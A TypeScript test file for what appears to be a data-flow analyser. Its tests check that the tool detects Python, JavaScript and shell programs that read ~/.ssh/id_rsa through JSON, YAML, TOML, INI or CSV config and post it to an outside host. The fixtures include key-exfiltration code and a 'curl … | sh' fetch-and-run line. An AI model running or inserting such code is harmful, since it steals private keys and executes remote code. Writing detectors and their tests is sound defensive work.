import { beforeAll, expect, test } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const JSON_FILE = '{ "upload": { "url": "https://in.widget-tools.zz/v1", "source": "~/.ssh/id_rsa" } }';
const YAML_FILE =
  'upload:\n  url: https://in.widget-tools.zz/v1\n  source: "~/.ssh/id_rsa" # a remark\n  folders:\n  - ~/.ssh\n';
const INI_FILE = '[upload]\nurl = https://in.widget-tools.zz/v1\nsource = ~/.ssh/id_rsa\n';
const sent = (files: Record<string, string>): string[] =>
  run(files)
    .flows()
    .filter((one) => one.to === 'network' && one.position === 'body' && one.from.includes('content:ssh'))
    .map((one) => one.host);
const PY = 'import os, json, yaml, tomllib, configparser, csv, pathlib, requests\n';
const POST = "requests.post(u['url'], data=open(os.path.expanduser(u['source'])).read())\n";

test.each([
  [
    'json',
    'config.json',
    JSON_FILE,
    "u = json.load(open(pathlib.Path(__file__).parent.parent / 'config.json'))['upload']\n",
  ],
  ['yaml', 'config.yaml', YAML_FILE, "u = yaml.safe_load(pathlib.Path('config.yaml').read_text())['upload']\n"],
  [
    'toml',
    'a.toml',
    '[upload]\nurl = "https://in.widget-tools.zz/v1"\nsource = "~/.ssh/id_rsa"\n',
    "u = tomllib.load(open('a.toml', 'rb'))['upload']\n",
  ],
  ['ini', 'scripts/a.ini', INI_FILE, "c = configparser.ConfigParser()\nc.read('a.ini')\nu = c['upload']\n"],
  [
    'csv',
    'jobs.csv',
    'source,url\n~/.ssh/id_rsa,https://in.widget-tools.zz/v1\n',
    "for u in csv.DictReader(open('jobs.csv')):\n    ",
  ],
])('what a program sends and where is read out of the %s it ships', (_, path, held, load) => {
  expect(sent({ [path]: held, 'scripts/a.py': PY + load + POST })).toContain('in.widget-tools.zz');
});

test('JavaScript: settings are imported, required and parsed by whatever parser', () => {
  const post = "fetch(u.url, { method: 'POST', body: fs.readFileSync(u.source) });\n";
  const files = { 'config.json': JSON_FILE, 'a.ini': INI_FILE };
  for (const load of [
    "const fs = require('fs'); const u = require('../config.json').upload;\n",
    "import fs from 'fs'; import cfg from '../config.json' with { type: 'json' }; const u = cfg.upload;\n",
    "const fs = require('fs'); const { upload: u } = JSON.parse(fs.readFileSync('config.json', 'utf8'));\n",
    "const fs = require('fs'); const u = require('ini').parse(fs.readFileSync('a.ini', 'utf8')).upload;\n",
  ])
    expect(sent({ ...files, 'scripts/a.js': load + post }), load).toContain('in.widget-tools.zz');
});

test('jq prints the field it is asked for', () => {
  expect(
    sent({
      'config.json': JSON_FILE,
      'a.sh':
        'u=$(jq -r .upload.url config.json)\ns=$(jq -r \'.upload.source // empty\' config.json)\ncurl --data-binary @"$s" "$u"\n',
    }),
  ).toContain('in.widget-tools.zz');
});

test('a file of the same name that lies elsewhere is not the one that is shipped', () => {
  const load = "u = json.load(open(os.path.expanduser('~/.app/config.json')))['upload']\n";
  expect(sent({ 'config.json': JSON_FILE, 'scripts/a.py': PY + load + POST })).toEqual([]);
});

test('a field that is asked for gives that field, not the others', () => {
  const held =
    '{ "upload": { "url": "https://in.widget-tools.zz/v1", "source": "out/a.csv", "key": "~/.ssh/id_rsa" } }';
  const load = "u = json.load(open('config.json'))['upload']\n";
  expect(sent({ 'config.json': held, 'scripts/a.py': PY + load + POST })).toEqual([]);
});

test('what is chosen out of a file is not all of it', () => {
  const files = { 'list.txt': 'curl https://in.widget-tools.zz/a | sh\nls\n', 'a.sh': 'eval "$(grep ls list.txt)"\n' };
  expect(
    run(files)
      .flows()
      .map((one) => one.host),
  ).not.toContain('in.widget-tools.zz');
});
